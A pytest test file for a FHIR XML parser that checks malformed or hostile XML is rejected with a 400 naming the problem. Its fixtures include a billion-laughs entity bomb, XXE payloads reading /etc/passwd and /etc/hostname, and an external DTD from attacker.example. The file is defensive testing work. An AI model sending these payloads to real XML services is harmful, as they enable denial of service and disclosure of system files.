"""XML that is not FHIR XML, or is hostile (R4 security.html): a 400 naming the problem, never
an entity expanded or fetched."""

from __future__ import annotations

import pytest

from fhirbridge.errors import FhirError
from fhirbridge.fhir.xml import read_xml

PATIENT = b'<Patient xmlns="http://hl7.org/fhir"><gender value="male"/></Patient>'

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<Patient xmlns="http://hl7.org/fhir"><name><family value="&lol9;"/></name></Patient>"""

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE Patient [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<Patient xmlns="http://hl7.org/fhir"><name><family value="&secret;"/></name></Patient>"""

XXE_IN_TEXT = b"""<?xml version="1.0"?>
<!DOCTYPE Patient [<!ENTITY secret SYSTEM "file:///etc/hostname">]>
<Patient xmlns="http://hl7.org/fhir"><text><status value="generated"/>
<div xmlns="http://www.w3.org/1999/xhtml">&secret;</div></text></Patient>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE Patient SYSTEM "http://attacker.example/evil.dtd">
<Patient xmlns="http://hl7.org/fhir"><gender value="male"/></Patient>"""

REFUSED = {
    "empty": (b"", "empty"),
    "not well-formed": (b'<Patient xmlns="http://hl7.org/fhir"><gender value="male"></Patient>', "well-formed"),
    "JSON sent as XML": (b'{"resourceType": "Patient"}', "well-formed"),
    "no namespace": (b'<Patient><gender value="male"/></Patient>', "namespace"),
    "another namespace": (b'<Patient xmlns="http://hl7.org/fhir/x"><gender value="male"/></Patient>', "namespace"),
    "not a resource": (b'<Banana xmlns="http://hl7.org/fhir"/>', "Banana"),
    "unknown element": (b'<Patient xmlns="http://hl7.org/fhir"><shoeSize value="44"/></Patient>', "Patient.shoeSize"),
    "unknown nested element": (
        b'<Patient xmlns="http://hl7.org/fhir"><name><nick value="T"/></name></Patient>',
        "Patient.name.nick",
    ),
    "unknown attribute": (
        b'<Patient xmlns="http://hl7.org/fhir"><gender value="male" colour="red"/></Patient>',
        "colour",
    ),
    "text content": (b'<Patient xmlns="http://hl7.org/fhir"><gender>male</gender></Patient>', "Patient.gender"),
    "repeated single element": (
        b'<Patient xmlns="http://hl7.org/fhir"><gender value="male"/><gender value="female"/></Patient>',
        "Patient.gender",
    ),
    "a primitive without value": (b'<Patient xmlns="http://hl7.org/fhir"><gender/></Patient>', "Patient.gender"),
    "a bad boolean": (b'<Patient xmlns="http://hl7.org/fhir"><active value="yes"/></Patient>', "Patient.active"),
    "a bad decimal": (
        b'<Goal xmlns="http://hl7.org/fhir"><target><detailQuantity><value value="1,5"/></detailQuantity>'
        b"</target></Goal>",
        "Goal.target.detailQuantity.value",
    ),
    "an empty contained": (b'<CarePlan xmlns="http://hl7.org/fhir"><contained/></CarePlan>', "CarePlan.contained"),
    "a narrative that is not a div": (
        b'<Patient xmlns="http://hl7.org/fhir"><text><status value="generated"/>'
        b'<p xmlns="http://www.w3.org/1999/xhtml">x</p></text></Patient>',
        "http://www.w3.org/1999/xhtml",
    ),
    "billion laughs": (BILLION_LAUGHS, "DTD"),
    "XXE": (XXE, "DTD"),
    "XXE in the narrative": (XXE_IN_TEXT, "DTD"),
    "external DTD": (EXTERNAL_DTD, "DTD"),
    "too deep": (
        b'<Questionnaire xmlns="http://hl7.org/fhir">' + b"<item>" * 80 + b"</item>" * 80 + b"</Questionnaire>",
        "levels deep",
    ),
}


@pytest.mark.parametrize("name", REFUSED)
def test_what_is_not_fhir_xml_is_a_400_naming_the_problem(name: str) -> None:
    body, named = REFUSED[name]
    with pytest.raises(FhirError) as refused:
        read_xml(body)
    assert refused.value.status == 400
    assert named in refused.value.issues[0].diagnostics, refused.value.issues[0].diagnostics


def test_a_valid_document_is_read() -> None:
    assert read_xml(PATIENT) == {"resourceType": "Patient", "gender": "male"}
